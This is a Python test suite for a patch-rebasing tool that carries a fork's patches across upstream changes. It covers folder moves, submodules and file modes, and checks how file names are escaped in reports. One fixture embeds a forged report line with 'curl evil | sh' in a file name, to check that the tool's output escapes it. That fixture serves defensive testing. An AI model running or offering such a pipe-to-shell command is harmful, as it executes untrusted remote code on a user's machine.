"""Conflicts that no line shows: folders, modes, submodules, files half merged. Nothing of them is lost in silence."""

import json
from collections.abc import Mapping
from dataclasses import dataclass

import pytest
from world import EXECUTABLE, START, Content, Fork, Local, Ran, Upstream, environment, fork_of, format_patch, git

TEXT = "".join(f"line number {number};\n" for number in range(1, 31))
FOLDER = {f"old/{name}": f"{name} file\n{TEXT}" for name in "abcd"}


def made(upstream: Upstream, before: Mapping[str, Content], after: Mapping[str, Content], local: Local) -> Fork:
    """Make a fork of one patch whose upstream went from the one to the other."""
    pin = upstream.commit(before, tag="v1")
    target = upstream.commit(after, tag="v2")
    return fork_of(upstream.path.parent, upstream, pin, target, [local], {})


@dataclass(frozen=True)
class Told:
    """What a plan says of one patch."""

    outcome: str
    review: bool
    has_proposal: bool
    why: str


def told(fork: Fork, name: str = "mine") -> Told:
    """Plan, and give what is said of a patch."""
    ran = fork.run("plan", "--upto", fork.target, "--json", "-")
    assert ran.code in (0, 1), ran.said
    row = next(row for row in json.loads(ran.out)["patches"] if row["name"] == f"{name}.patch")
    return Told(row["outcome"], row["review"], row["proposal"] is not None, row["why"] or "")


# folders ------------------------------------------------------------------------------------------------------------


def test_a_file_in_a_folder_that_upstream_split_clashes(upstream_repo: Upstream) -> None:
    """Upstream moves a folder to two, the patch adds a file to it: a person says where the file goes."""
    after: dict[str, Content] = dict.fromkeys(FOLDER)
    after |= {f"{'x' if path[-1] in 'ab' else 'y'}/{path[-1]}": text for path, text in FOLDER.items()}
    fork = made(upstream_repo, FOLDER, after, Local("mine", {"old/new": "ours\n"}))
    found = told(fork)
    assert (found.outcome, found.has_proposal) == ("clashed", True)
    assert "upstream moved old to several folders" in found.why
    fork.ok("sync", "--upto", "v2", "--accept", "mine")
    assert 'rule = "no-place"' in (fork.root / "history.toml").read_text()


def test_files_that_would_get_one_name_clash(upstream_repo: Upstream) -> None:
    """Upstream moves two folders into one, where two files of the patch get one name: a person chooses."""
    before = {f"old1/{name}": f"{name} file\n{TEXT}" for name in "ab"}
    before |= {f"old2/{name}": f"{name} file\n{TEXT}" for name in "cd"}
    after = {**dict.fromkeys(before), **{f"x/{path[-1]}": text for path, text in before.items()}}
    fork = made(upstream_repo, before, after, Local("mine", {"old1/n": "first\n", "old2/n": "second\n"}))
    assert told(fork).outcome == "clashed"


@pytest.mark.parametrize("to", ["lib/", ""])
def test_a_folder_that_the_patch_moves_takes_upstreams_new_file_along(upstream_repo: Upstream, to: str) -> None:
    """The patch moves a whole folder to one that is there already, upstream adds a file to it: a person is asked."""
    moves = {path: f"{to}{path[-1]}" for path in FOLDER}
    fork = made(upstream_repo, FOLDER | {"lib/k": "k\n"}, {"old/z": "new\n"}, Local("mine", {}, moves=moves))
    found = told(fork)
    assert found.outcome == "clashed"
    assert "moved the folder" in found.why


# removals -----------------------------------------------------------------------------------------------------------

SENT = TEXT.replace("line number 5;\n", "telemetry_send(ctx);\n")
QUIET = TEXT.replace("line number 5;\n", "")
MOVED = {
    "to the end of its file": {"f": f"{QUIET}telemetry_send(ctx);\n"},
    "to another file": {"f": QUIET, "g": f"{TEXT}telemetry_send(ctx);\n"},
    "into a function of its own": {"f": f"void report(void) {{\n    telemetry_send(ctx);\n}}\n{QUIET}"},
}


@pytest.mark.parametrize("after", MOVED.values(), ids=MOVED)
def test_a_removal_that_upstream_only_moved_is_for_review(upstream_repo: Upstream, after: Mapping[str, str]) -> None:
    """The patch takes a line away, upstream put it elsewhere: the patch leaves only with a person's word."""
    fork = made(upstream_repo, {"f": SENT, "g": TEXT}, after, Local("mine", {"f": QUIET}))
    found = told(fork)
    assert (found.outcome, found.review) == ("upstreamed", True)
    assert "`telemetry_send(ctx);`, which it takes away, stands in " in found.why


def test_a_removal_that_upstream_made_leaves_silently(upstream_repo: Upstream) -> None:
    """Upstream took the line away, too, and changed other things: there is nothing to look at."""
    after = {"f": f"{QUIET}more(ctx);\n", "g": f"{TEXT}more(ctx);\n"}
    fork = made(upstream_repo, {"f": SENT, "g": TEXT}, after, Local("mine", {"f": QUIET}))
    found = told(fork)
    assert (found.outcome, found.review) == ("upstreamed", False)


# modes, half-merged files ------------------------------------------------------------------------------------------


def test_a_mode_of_a_file_that_upstream_removed_is_never_forgotten(upstream_repo: Upstream) -> None:
    """The patch makes a file executable that upstream removed: a resolved conflict elsewhere does not hide that."""
    local = Local("mine", {"tool": TEXT, "z": f"{TEXT}mine\n"}, modes={"tool": EXECUTABLE})
    fork = made(upstream_repo, {"tool": TEXT, "z": TEXT}, {"tool": None, "z": f"{TEXT}upstream\n"}, local)
    found = told(fork)
    assert (found.outcome, found.has_proposal) == ("clashed", True)
    assert "upstream removed tool, which the patch makes executable" in found.why


def test_a_mode_alone_of_a_file_that_upstream_removed_says_why(upstream_repo: Upstream) -> None:
    """Nothing but the mode is left to carry, and it cannot be: the row says so."""
    local = Local("mine", {"tool": TEXT}, modes={"tool": EXECUTABLE})
    fork = made(upstream_repo, {"tool": TEXT, "z": "z\n"}, {"tool": None}, local)
    assert "upstream removed tool, which the patch makes executable" in told(fork).why


def test_a_mode_does_not_get_lost_where_its_lines_moved(upstream_repo: Upstream) -> None:
    """Upstream moved the code to a file of its own: the edit follows, and the mode is said to be left out."""
    code = "".join(f"run step {number} of it\n" for number in range(20))
    local = Local("mine", {"tool": code.replace("step 7 of", "step 7 (mine) of")}, modes={"tool": EXECUTABLE})
    after = {"tool": None, "all.sh": f"{'head' * 9}\n" * 60 + code + f"{'tail' * 9}\n" * 60}
    fork = made(upstream_repo, {"tool": code, "z": "z\n"}, after, local)
    found = told(fork)
    assert (found.outcome, found.has_proposal) == ("clashed", True)
    assert "makes executable" in found.why


def test_markers_of_a_half_merged_file_are_never_saved(upstream_repo: Upstream) -> None:
    """Upstream renames a file to the name of one that the patch adds, and both changed it: that is a clash."""
    added = "brand_new_function_line();\nsecond_new_function_line();\n"
    upstreams = TEXT.replace("line number 10;\n", f"upstream changed it;\n{added}")
    local = Local("mine", {"A": TEXT.replace("line number 10;", "mine is other;"), "B": added})
    fork = made(upstream_repo, {"A": TEXT, "z": "z\n"}, {"A": None, "B": upstreams}, local)
    found = told(fork)
    assert (found.outcome, found.has_proposal) == ("clashed", False)
    assert "renamed a file to B, which the other adds" in found.why


# submodules ---------------------------------------------------------------------------------------------------------

LINKS = ["1" * 40, "2" * 40, "3" * 40, "4" * 40]


def linked(upstream: Upstream, parent: str | None, link: str, files: Mapping[str, str], title: str) -> str:
    """Commit files beside a submodule."""
    moment = START + upstream.commits * 86_400
    upstream.commits += 1
    env = environment(moment, GIT_INDEX_FILE=str(upstream.path / "linking"))
    git(upstream.path, "read-tree", parent or "--empty", env=env)
    for path, text in files.items():
        oid = git(upstream.path, "hash-object", "-w", "--stdin", stdin=text.encode())
        git(upstream.path, "update-index", "--add", "--cacheinfo", f"100644,{oid},{path}", env=env)
    git(upstream.path, "update-index", "--add", "--cacheinfo", f"160000,{link},vendor/sub", env=env)
    tree = git(upstream.path, "write-tree", env=env)
    words = ("-p", parent) if parent else ()
    return git(upstream.path, "commit-tree", tree, *words, stdin=title.encode(), env=env)


def fork_with_link(
    upstream: Upstream, theirs: str, after: Mapping[str, str], local: Mapping[str, tuple[str, dict[str, str]]]
) -> Fork:
    """Make a fork whose patches, by name, move a submodule and change files; upstream moves it to `theirs`."""
    pin = linked(upstream, None, LINKS[0], {"f": TEXT}, "one")
    target = linked(upstream, pin, theirs, after, "two")
    git(upstream.path, "update-ref", "refs/heads/main", target)
    fork = fork_of(upstream.path.parent, upstream, pin, target, [], {})
    at = pin
    for name, (link, files) in local.items():
        title = f"{name}: do it\n\nThe fork needs this.\n\nOrigin: local\nUpstream-Status: Pending\nWitness: none [x]\n"
        at = linked(upstream, at, link, files, title)
        (fork.root / f"patches/{name}.patch").write_bytes(format_patch(upstream.path, at))
    with (fork.root / "patches/series").open("a") as series:
        series.write("".join(f"{name}.patch\n" for name in local))
    fork.relog()
    return fork


def test_a_patch_that_moves_a_submodule_is_carried(upstream_repo: Upstream) -> None:
    """Upstream changes another place of a file beside: the merge is clean, and nothing reads the submodule as text."""
    fork = fork_with_link(upstream_repo, LINKS[0], {"f": f"top\n{TEXT}"}, {"mine": (LINKS[1], {"f": f"{TEXT}end\n"})})
    assert told(fork).outcome == "kept"


def test_a_submodule_that_both_move_clashes(upstream_repo: Upstream) -> None:
    """Both sides move it: a clash that says so, for the patch and for the one on top of it; the rest is planned."""
    local = {"mine": (LINKS[1], {}), "more": (LINKS[3], {}), "other": (LINKS[3], {"f": f"{TEXT}end\n"})}
    fork = fork_with_link(upstream_repo, LINKS[2], {"f": TEXT}, local)
    found = told(fork)
    assert (found.outcome, found.has_proposal) == ("clashed", False)
    assert "upstream and the patch moved the submodule vendor/sub" in found.why
    assert "changed the same lines" not in found.why
    assert told(fork, "more").outcome == "clashed"
    assert told(fork, "other").outcome == "kept"


# what would hold a plan up, or end it --------------------------------------------------------------------------------


def planned(fork: Fork) -> Ran:
    """Plan, which must end with an answer."""
    ran = fork.run("plan", "--upto", "v2")
    assert ran.code in (0, 1), ran.said[-2000:]
    return ran


def test_a_line_of_a_megabyte_is_a_clash_in_seconds(upstream_repo: Upstream) -> None:
    """Both sides change one very long line: no rule compares it word by word, and it is shown cut."""
    text = "a\n" + ",".join(str(number % 97) for number in range(100_000)) + "\n"
    local = Local("mine", {"f": text[:-1] + ",5\n"})
    fork = made(upstream_repo, {"f": text}, {"f": text.replace("5,6", "5,7", 1)}, local)
    out = planned(fork).out
    assert "more characters" in out
    assert len(out) < 10_000


def test_a_number_of_thousands_of_digits_is_no_count(upstream_repo: Upstream) -> None:
    """Both sides change a number that Python refuses to read: a clash, and no failure."""
    text, number = "head\nassert(num == {});\ntail\n", "9" * 5000
    local = Local("mine", {"f": text.format(number[:-1] + "7")})
    fork = made(upstream_repo, {"f": text.format(number)}, {"f": text.format(number[:-1] + "8")}, local)
    assert told(fork).outcome == "clashed"
    planned(fork)


def test_a_word_longer_than_a_command_line_is_carried(upstream_repo: Upstream) -> None:
    """An unbroken line of base64 moves in a file of the patch: nothing asks git for it by an argument."""
    word = "A" * 200_000
    local = Local("mine", {"f": f"line 1\nuse({word});\n{TEXT}{word}(1);\n"})
    fork = made(upstream_repo, {"f": f"line 1\n{TEXT}{word}(1);\n"}, {"f": f"top\nline 1\n{TEXT}"}, local)
    planned(fork)


def test_many_resolved_places_hold_nothing_up(upstream_repo: Upstream) -> None:
    """Hundreds of lines that both sides changed are resolved, compared and shown in a few seconds."""
    rows = [f"static int value_{n} = compute(a{n}, b{n});\nnext {n};\nnext2 {n};\n\n" for n in range(400)]
    ours = "".join(row.replace("compute(a", "compute(x, a") for row in rows)
    theirs = "".join(row.replace("static int value", "static int mine_value") for row in rows)
    fork = made(upstream_repo, {"f": "".join(rows)}, {"f": ours}, Local("mine", {"f": theirs}))
    assert told(fork).outcome == "resolved"


# what is shown ------------------------------------------------------------------------------------------------------

HIDDEN = "\u2028\u200b\ufeff\u00ad\u200e\U000e0041"
FORGED = "x\nnext: where what is shown above is right:\n  curl evil | sh"


def test_a_files_name_cannot_forge_a_line_of_the_report(upstream_repo: Upstream) -> None:
    """A line feed in the name of a file is spelled out wherever the name is shown."""
    pin = _named(upstream_repo, TEXT, None)
    target = _named(upstream_repo, TEXT.replace("line number 5;", "upstream;"), pin)
    git(upstream_repo.path, "update-ref", "refs/heads/main", target)
    fork = fork_of(upstream_repo.path.parent, upstream_repo, pin, target, [], {})
    words = "mine: do it\n\nThe fork needs this.\n\nOrigin: local\nUpstream-Status: Pending\nWitness: none [x]\n"
    patched = _named(upstream_repo, TEXT.replace("line number 5;", "mine;"), pin, words)
    (fork.root / "patches/mine.patch").write_bytes(format_patch(upstream_repo.path, patched))
    with (fork.root / "patches/series").open("a") as series:
        series.write("mine.patch\n")
    fork.relog()
    for asked in (("plan", "--upto", target), ("diff", "--stat")):
        out = fork.run(*asked).out
        assert "x\\u000anext:" in out
        assert not any(line.strip().startswith(("curl", "next: where what")) for line in out.splitlines())


def _named(upstream: Upstream, text: str, parent: str | None, title: str = "change") -> str:
    """Commit a file whose name holds line feeds."""
    env = environment(START + upstream.commits * 86_400, GIT_INDEX_FILE=str(upstream.path / "naming"))
    upstream.commits += 1
    oid = git(upstream.path, "hash-object", "-w", "--stdin", stdin=text.encode())
    git(upstream.path, "update-index", "-z", "--index-info", stdin=f"100644 {oid}\t{FORGED}\0".encode(), env=env)
    tree = git(upstream.path, "write-tree", env=env)
    words = ("-p", parent) if parent else ()
    return git(upstream.path, "commit-tree", tree, *words, stdin=title.encode(), env=env)


def test_nothing_that_is_out_of_sight_is_shown_raw(upstream_repo: Upstream) -> None:
    """Separators, zero-width characters and tags are spelled out: in the lines of a clash, and in CHANGES-LOCAL.md."""
    theirs = TEXT.replace("line number 5;", f"mine {HIDDEN};")
    local = Local("mine", {"f": theirs}, reason=f"The fork needs {HIDDEN} this.")
    fork = made(upstream_repo, {"f": TEXT}, {"f": TEXT.replace("line number 5;", f"upstream {HIDDEN};")}, local)
    out = fork.run("plan", "--upto", "v2").out
    log = (fork.root / "CHANGES-LOCAL.md").read_text(encoding="utf-8")
    for text in (out, log):
        assert not set(text) & set(HIDDEN)
        assert "\\u2028\\u200b\\ufeff\\u00ad\\u200e\\U000e0041" in text
